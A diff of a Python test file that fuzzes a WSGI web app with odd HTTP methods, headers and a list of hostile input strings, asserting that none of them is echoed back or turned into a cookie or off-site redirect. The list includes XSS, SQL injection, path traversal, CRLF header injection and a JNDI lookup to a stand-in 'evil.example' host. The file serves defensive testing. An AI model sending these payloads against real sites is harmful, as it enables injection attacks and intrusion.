@@ -16,7 +16,8 @@ MARK = "zq9x"  # stands in every value that must never come back
 NASTY = (
     "{m}", "<script>{m}</script>", "\"'><img src=x onerror={m}>", "{{{{7*7}}}}{m}", "%s%n{m}", "../../etc/{m}", "..%2f..%2f{m}",
     "{m}\r\nSet-Cookie: a={m}", "\x00{m}", "{m}\u202e\u2066", "\ud7ff{m}\ufffe", "//evil.example/{m}", "https://evil.example/{m}",
-    "${{jndi:ldap://evil.example/{m}}}", "' OR 1=1 --{m}", "{m}" + "A" * 3000, "\u0661\u0662{m}", "{m}=&;", "DE\t{m}", " DE {m}",
+    "${{jndi:ldap://evil.example/{m}}}", "' OR 1=1 --{m}", "{m}" + "A" * 3000, "\u0661\u0662{m}", "{m}=&;", "DE\t{m}",
+    " DE {m}",
 )  # fmt: skip
 FIELDS = ("concern", "region", "platform", "role", "danger", "tried_platform", "child_region", "change")
 TYPES = (
@@ -32,8 +33,9 @@ TYPES = (
 )
 METHODS = ("GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "zq9x")
 HEADERS = (
-    "HTTP_ACCEPT_LANGUAGE", "HTTP_X_FORWARDED_FOR", "HTTP_X_FORWARDED_HOST", "HTTP_X_FORWARDED_PROTO", "HTTP_REFERER", "HTTP_COOKIE",
-    "HTTP_ORIGIN", "HTTP_USER_AGENT", "HTTP_IF_NONE_MATCH", "HTTP_RANGE", "HTTP_X_ORIGINAL_URL", "HTTP_FORWARDED", "HTTP_ACCEPT",
+    "HTTP_ACCEPT_LANGUAGE", "HTTP_X_FORWARDED_FOR", "HTTP_X_FORWARDED_HOST", "HTTP_X_FORWARDED_PROTO", "HTTP_REFERER",
+    "HTTP_COOKIE", "HTTP_ORIGIN", "HTTP_USER_AGENT", "HTTP_IF_NONE_MATCH", "HTTP_RANGE", "HTTP_X_ORIGINAL_URL",
+    "HTTP_FORWARDED", "HTTP_ACCEPT",
 )  # fmt: skip
 
 
@@ -167,7 +169,8 @@ def test_odd_requests(wsgi, directory, seed, caplog):
             assert MARK not in value, case
             assert name.lower() != "set-cookie", case
             if name.lower() == "location":
-                assert value.startswith("/") and not value.startswith("//"), case
+                assert value[0] == "/", case
+                assert value[:2] != "//", case
         assert errors.getvalue() == "", case
     assert caplog.records == []
     assert {200, 400, 404, 405, 415} <= seen
